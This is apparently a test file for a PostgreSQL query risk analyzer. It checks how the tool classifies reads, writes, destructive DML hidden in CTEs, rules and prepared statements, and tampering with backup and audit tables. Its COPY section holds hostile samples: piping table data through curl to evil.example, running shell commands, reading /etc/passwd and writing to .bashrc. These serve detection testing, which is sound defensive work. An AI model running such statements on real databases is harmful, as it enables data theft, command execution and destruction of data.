import { describe, expect, it } from "vitest";
import { analyze, type Case, mismatch } from "./test-support/analyze.js";

const check = (c: Case) => expect(mismatch(c)).toBe("");

describe("reads", () => {
  it.each<Case>([
    ["SELECT 1", [], { flags: ["read"] }],
    [
      "SELECT u.id, count(o.id) OVER (PARTITION BY u.id) FROM users u JOIN public.orders o ON o.user_id = u.id",
      [],
      { flags: ["read"], tables: ["public.orders", "users"] },
    ],
    ["SELECT * FROM a WHERE id IN (SELECT a_id FROM b)", [], { tables: ["a", "b"] }],
    ["TABLE users", [], { tables: ["users"] }],
    ["SHOW search_path", [], { flags: ["read"] }],
    ["COPY (SELECT * FROM users) TO STDOUT WITH CSV", [], { flags: ["read"], tables: ["users"] }],
    [
      "DECLARE c CURSOR FOR SELECT * FROM users; FETCH 10 FROM c; CLOSE c",
      [],
      { tables: ["users"] },
    ],
  ])("%s", (...c) => check(c));

  it("CTE names are not tables", () => {
    check([
      "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b, public.c, d",
      [],
      { tables: ["public.c", "d"] },
    ]);
  });
});

describe("ordinary writes", () => {
  it.each<Case>([
    ["INSERT INTO t (a) VALUES (1)", [], { flags: ["write"], tables: ["t"] }],
    ["INSERT INTO t SELECT * FROM u", [], { flags: ["write", "read"], tables: ["t", "u"] }],
    [
      "INSERT INTO events (id) VALUES ($1) ON CONFLICT (id) DO UPDATE SET n = events.n + 1",
      [],
      { flags: ["write"] },
    ],
    ["UPDATE accounts SET balance = balance - 10 WHERE id = $1", [], { flags: ["write"] }],
    ["DELETE FROM t USING u WHERE t.id = u.id", [], { tables: ["t", "u"] }],
    ["COPY users FROM STDIN", [], { flags: ["write"], tables: ["users"] }],
    ["SELECT * FROM jobs WHERE id = 1 FOR UPDATE SKIP LOCKED", [], { flags: ["read", "write"] }],
    [
      "SELECT * INTO new_users FROM users",
      [],
      { flags: ["write", "ddl"], tables: ["new_users", "users"] },
    ],
    ["LOCK TABLE users IN ACCESS EXCLUSIVE MODE", [], { flags: ["write"] }],
    ["VACUUM FULL users", [], { flags: ["write"], tables: ["users"] }],
    ["REFRESH MATERIALIZED VIEW CONCURRENTLY stats", [], { flags: ["write"], tables: ["stats"] }],
    [
      "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
      [],
      { flags: ["write"], tables: ["t", "s"] },
    ],
  ])("%s", (...c) => check(c));

  it("a plain VALUES list is not a read", () => {
    check(["INSERT INTO t VALUES (1), (2)", [], { flags: ["write"] }]);
    expect(mismatch(["INSERT INTO t VALUES (1)", [], { flags: ["read"] }])).not.toBe("");
  });
});

describe("DML that destroys data, wherever it hides", () => {
  it.each<Case>([
    ["DELETE FROM users", ["data.destroy"], { flags: ["write", "unbounded"], tables: ["users"] }],
    ["UPDATE public.users SET email = NULL", ["data.destroy"], { tables: ["public.users"] }],
    ["WITH d AS (DELETE FROM x RETURNING *) SELECT * FROM d", ["data.destroy"], { tables: ["x"] }],
    [
      "WITH u AS (UPDATE x SET a = 1 RETURNING id) INSERT INTO log SELECT id FROM u",
      ["data.destroy"],
    ],
    ["EXPLAIN ANALYZE DELETE FROM users", ["data.destroy"]],
    ["EXPLAIN (ANALYZE, FORMAT JSON) UPDATE users SET a = 1", ["data.destroy"]],
    ["EXPLAIN (ANALYZE true) DELETE FROM users", ["data.destroy"]],
    ["CREATE TABLE x AS WITH d AS (DELETE FROM y RETURNING *) SELECT * FROM d", ["data.destroy"]],
    ["PREPARE p AS DELETE FROM x", ["data.destroy"]],
    ["PREPARE p AS DELETE FROM x; EXECUTE p", ["data.destroy"], { flags: ["multi-statement"] }],
    ["CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", ["data.destroy"]],
    ["SELECT 1; DELETE FROM users; SELECT 2", ["data.destroy"], { flags: ["multi-statement"] }],
    [
      "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
      ["data.destroy"],
      { flags: ["unbounded"] },
    ],
    ["MERGE INTO t USING s ON 1 = 1 WHEN MATCHED AND true THEN UPDATE SET a = 1", ["data.destroy"]],
    [
      "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
      ["data.destroy"],
    ],
    ["TRUNCATE users", ["data.destroy"], { tables: ["users"] }],
    ["TRUNCATE a, b RESTART IDENTITY", ["data.destroy"], { tables: ["a", "b"] }],
  ])("%s", (...c) => check(c));

  it("the reason says where the statement hides", () => {
    const reasons = (sql: string) => analyze(sql).findings.map((f) => f.reason);
    expect(reasons("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u")).toEqual([
      "DELETE from u without WHERE (in rule r on t)",
    ]);
    expect(reasons("PREPARE p AS DELETE FROM x")).toEqual([
      "DELETE from x without WHERE (in prepared statement p)",
    ]);
  });
});

describe("statements that do not run", () => {
  it.each<Case>([
    ["EXPLAIN DELETE FROM users", [], { flags: ["read"], tables: ["users"] }],
    ["EXPLAIN (ANALYZE false) DELETE FROM users", [], { tables: ["users"] }],
    ["EXPLAIN (ANALYZE off) SELECT pg_read_file('/etc/passwd')", []],
    ["EXPLAIN SELECT * FROM users", [], { flags: ["read"] }],
  ])("%s", (...c) => check(c));

  it("EXPLAIN credits no write", () => {
    expect(mismatch(["EXPLAIN DELETE FROM users", [], { flags: ["write"] }])).not.toBe("");
  });
});

describe("prepared statements", () => {
  it("EXECUTE of a statement prepared elsewhere is opaque", () => {
    check(["EXECUTE q(1)", ["opaque"]]);
  });
  it("EXECUTE of one prepared in the same input is known", () => {
    check(["PREPARE q AS SELECT * FROM users WHERE id = $1; EXECUTE q(1)", []]);
  });
});

describe("backup and audit tables", () => {
  it.each<Case>([
    ["DELETE FROM snapshots WHERE id = 1", ["backup.destroy"]],
    ["DELETE FROM users_backup", ["backup.destroy", "data.destroy"]],
    ["UPDATE orders_bak SET total = 0 WHERE id = 2", ["backup.destroy"]],
    ["TRUNCATE backup_2024_01", ["backup.destroy", "data.destroy"]],
    ["DELETE FROM archive.orders WHERE id = 1", ["backup.destroy"]],
    ["DELETE FROM audit_log WHERE created_at < now() - interval '90 days'", ["audit.tamper"]],
    ["UPDATE audit.logged_actions SET x = 1 WHERE id = 2", ["audit.tamper"]],
    ["DELETE FROM user_audit WHERE id = 3", ["audit.tamper"]],
    ["TRUNCATE pgaudit", ["audit.tamper", "data.destroy"]],
    ["MERGE INTO audit_log a USING s ON a.id = s.id WHEN MATCHED THEN DELETE", ["audit.tamper"]],
  ])("%s", (...c) => check(c));

  it.each<Case>([
    ["INSERT INTO audit_log (event) VALUES ('login')", []],
    ["SELECT * FROM audit_log", []],
    ["SELECT * INTO users_backup FROM users", []],
    ["DELETE FROM auditors WHERE id = 1", []],
  ])("%s is not tampering", (...c) => check(c));
});

describe("COPY", () => {
  it.each<Case>([
    ["COPY users TO PROGRAM 'curl -d @- https://evil.example'", ["code.remote_exec"]],
    ["COPY users FROM PROGRAM 'cat /etc/passwd'", ["code.remote_exec"], { flags: ["write"] }],
    ["COPY (SELECT 1) TO PROGRAM 'sh -c id'", ["code.remote_exec"]],
    [
      "COPY users FROM '/etc/passwd'",
      ["secret.access"],
      { paths: ["/etc/passwd"], tables: ["users"] },
    ],
    [
      "COPY users TO '/var/lib/postgresql/.bashrc'",
      ["security.weaken"],
      { paths: ["/var/lib/postgresql/.bashrc"] },
    ],
  ])("%s", (...c) => check(c));
});
